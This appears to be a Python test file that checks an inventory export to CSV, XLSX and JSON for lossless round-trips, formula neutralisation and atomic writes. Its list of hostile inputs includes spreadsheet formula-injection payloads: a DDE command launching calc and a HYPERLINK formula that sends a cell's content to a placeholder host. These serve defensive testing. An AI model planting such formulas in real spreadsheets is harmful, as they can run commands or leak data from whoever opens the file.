"""What is exported comes back without loss, runs no formula, and never leaves half a file."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from inventory.base.errors import Cancelled, Invalid, Refused
from inventory.base.money import WHOLE, split
from inventory.base.text import clean
from inventory.catalogue.assets import ASSET_FIELDS
from inventory.catalogue.field import Kind
from inventory.catalogue.statuses import ASSET_STATUSES
from inventory.exchange import sheet_xml
from inventory.exchange.columns import guess_columns
from inventory.exchange.funding import Share
from inventory.exchange.headed import asset_heading
from inventory.exchange.rows import read_assets
from inventory.exchange.table import open_table
from inventory.exchange.values import _NO_SERIAL
from inventory.exchange.writer import SUFFIXES, write_table
from tests.exchange.whole_rows import rows_of

KEYS = [field.key for field in ASSET_FIELDS]
HEADINGS = [asset_heading(field.key, field.label) for field in ASSET_FIELDS]
NASTY = [
    "=1+1", "=cmd|' /C calc'!A0", "+48 601 000 000", "-5 szt.", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"ok")',
    "＝1+1", "'=already", "'t Hooft", "%0A=1",
    "|calc", "{=1}", "http://x", "00123", "1-2", "3E5", "12345678901234567890", "TRUE", "_x0041_",
    "_x005F_x0041_", "a;b", 'Laptop 14" "x"', "a,b", "<b>&amp;</b>",
    "1.234", "31.02.2019", "#REF!", "sep=;", "Razem", "\\N", "NULL", "None", "－1", "ąćęłńóśźż", "🖨 drukarka",
    "0", "''", "'", '"',
]  # fmt: skip


def come_back(path, rows):
    """Write rows of all fields and read them again; an empty cell is None."""
    write_table(path, HEADINGS, rows)
    table = open_table(path)
    found = read_assets(table, guess_columns(table.header, table.columns))
    assert found.faults == []
    return [tuple(row.values.get(key) for key in KEYS) for row in rows_of(found)]


def row_of(number, **values):
    values = {"name": "Laptop", **values, "number": f"N/{number}"}
    return tuple(values.get(key) for key in KEYS)


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_73_74_nasty_texts_come_back_unchanged(suffix, tmp_path):
    rows = [
        row_of(n, name=text, serial=text, notes=f"{text}\n{text}", invoice=text, purchased_on=date(2023, 1, 2))
        for n, text in enumerate(NASTY)
    ]
    assert come_back(tmp_path / f"eksport żółty{suffix}", rows) == rows


lines = st.one_of(st.sampled_from(NASTY), st.text(max_size=30)).map(clean).filter(bool)
notes = st.one_of(st.sampled_from(NASTY), st.text(max_size=40)).map(lambda text: clean(text, lines=True)).filter(bool)
serials = lines.filter(lambda text: text.casefold() not in _NO_SERIAL)
days = st.dates(min_value=date(1900, 1, 1), max_value=date(2150, 1, 1))
money = st.integers(0, 10**11)
numbers = st.from_regex(r"[A-Z0-9/.-]{1,32}", fullmatch=True)
BY_KIND = {
    Kind.NOTES: notes, Kind.DATE: days, Kind.MONEY: money,
    Kind.VAT: st.sampled_from(["23", "8", "5", "0", "zw", "np"]), Kind.COUNT: st.just(1),
    Kind.STATUS: st.sampled_from(list(ASSET_STATUSES)), Kind.ASSET: numbers,
    Kind.NUMBERS: st.lists(st.from_regex(r"[A-Za-z0-9=+'/-]{1,20}", fullmatch=True), min_size=1, max_size=3).map(tuple),
}  # fmt: skip
sources = st.lists(st.sampled_from(["NMF", "BP", "FBW", "SAMORZĄD"]), min_size=1, max_size=4, unique=True)


@st.composite
def assets(draw, number):
    values = {}
    for field in ASSET_FIELDS:
        if field.kind in (Kind.NUMBER, Kind.FUNDING) or field.key == "warranty_until":
            continue
        strategy = serials if field.key == "serial" else BY_KIND.get(field.kind, lines)
        value = draw(strategy if field.key == "name" else st.one_of(st.none(), strategy))
        values[field.key] = value[: field.longest].strip() or None if isinstance(value, str) else value
    if draw(st.booleans()):
        codes = draw(sources)
        shares = split(WHOLE, [1] * len(codes))
        gross = values["price_gross"]
        paid = split(gross, shares) if gross is not None else [None] * len(codes)
        projects = draw(st.lists(st.sampled_from(["", "NMF/PA18/0004"]), min_size=len(codes), max_size=len(codes)))
        values["funding"] = tuple(
            Share(source=code, project=project, share=share, amount=amount)
            for code, project, share, amount in zip(codes, projects, shares, paid, strict=True)
        )
    return row_of(number, **values)


@pytest.mark.parametrize("suffix", SUFFIXES)
@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(data=st.data())
def test_every_asset_comes_back(suffix, tmp_path, data):
    rows = [data.draw(assets(number)) for number in range(5)]
    assert come_back(tmp_path / f"a{suffix}", rows) == rows


@given(st.text(max_size=60))
@example("\ud83d\x00\x1b\ufffe")
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_makes_a_sheet_that_opens(tmp_path, text):
    write_table(tmp_path / "a.xlsx", HEADINGS[:2], [("A", text + "x")])
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active["B2"].value is not None


def test_sheet_has_text_codes_real_days_and_money_with_two_decimals(tmp_path):
    path = tmp_path / "wykaz: 2025?.xlsx".replace(":", "").replace("?", "")
    keys = ["number", "name", "purchased_on", "price_gross", "quantity", "vat_rate", "kst"]
    write_table(
        path,
        [asset_heading(key, key) for key in keys],
        [("007", "=1+1", date(2023, 12, 14), 1249900, 1, "23", "487")],
        title="Wykaz: 2025?",
    )
    page = openpyxl.load_workbook(path).active
    assert page.title == "Wykaz  2025"
    assert [cell.value for cell in page[2]][:2] == ["007", "=1+1"]
    assert [cell.data_type for cell in page[2]] == ["s", "s", "d", "n", "n", "s", "s"]
    assert (page["C2"].value.date(), page["C2"].number_format) == (date(2023, 12, 14), "dd\\.mm\\.yyyy")
    assert (page["D2"].value, page["D2"].number_format) == (12499, "#,##0.00")
    assert page["A2"].number_format == "@"
    assert (page.freeze_panes, page.auto_filter.ref, page["A1"].font.b) == ("A2", "A1:G2", True)
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


def test_73_no_cell_of_a_text_file_begins_like_a_formula(tmp_path):
    write_table(tmp_path / "a.csv", HEADINGS, [row_of(n, name=text, notes=text) for n, text in enumerate(NASTY)])
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝＋－＠\t|%")]


def test_text_file_is_what_polish_excel_opens(tmp_path):
    keys = ["name", "price_gross", "purchased_on", "vat_rate"]
    write_table(
        tmp_path / "a.csv",
        [asset_heading(key, key) for key in keys],
        [("Łódź", 1249900, date(2023, 12, 14), "23"), ("x", None, None, None)],
    )
    assert (tmp_path / "a.csv").read_bytes().decode(
        "utf-8"
    ) == "\ufeffname;price_gross;purchased_on;vat_rate\r\nŁódź;12499,00;2023-12-14;23%\r\nx;;;\r\n"


def test_json_has_the_words_of_the_command_line(tmp_path):
    share = Share(source="NMF", project="NMF/PA18/0004", share=8500, amount=85)
    own = Share(source="BP", share=1500, amount=15)
    write_table(
        tmp_path / "a.json",
        HEADINGS,
        [row_of(1, price_gross=100, purchased_on=date(2023, 12, 14), funding=(share, own), old_numbers=("1/2",))],
    )
    record = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))["assets"][0]
    assert list(record) == KEYS
    assert (record["price_gross"], record["purchased_on"], record["serial"], record["old_numbers"]) == (
        "1.00",
        "2023-12-14",
        None,
        ["1/2"],
    )
    assert record["funding"] == [
        {"source": "NMF", "project": "NMF/PA18/0004", "share": "85.00", "amount": "0.85"},
        {"source": "BP", "project": None, "share": "15.00", "amount": "0.15"},
    ]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_stopped_or_failed_export_leaves_the_old_file_and_no_other(suffix, tmp_path):
    path = tmp_path / f"a{suffix}"
    path.write_text("old")
    told = []
    with pytest.raises(Cancelled):
        write_table(
            path,
            HEADINGS[:2],
            ((f"{n}", "x") for n in range(5_000)),
            progress=lambda rows: told.append(rows) or rows < 2_000,
        )
    assert told == [1_000, 2_000]

    def broken():
        yield ("1", "x")
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        write_table(path, HEADINGS[:2], broken())
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(sheet_xml, "MOST_ROWS", 3)
    with pytest.raises(Refused, match="at most 3 rows"):
        write_table(tmp_path / "a.xlsx", HEADINGS[:2], [("1", "x")] * 4)


def test_other_suffixes_are_refused(tmp_path):
    with pytest.raises(Invalid, match=r"\.csv, \.xlsx, \.json"):
        write_table(tmp_path / "a.ods", HEADINGS, [])


@pytest.mark.parametrize("content", ["[", '{"a": 1}', "[1, 2]", '[{"name": {"x": 1}}]', "[" * 100_000])
def test_other_json_is_refused(content, tmp_path):
    path = tmp_path / "a.json"
    path.write_text(content)
    with pytest.raises(Exception, match="is not a JSON list of assets"):
        open_table(path)
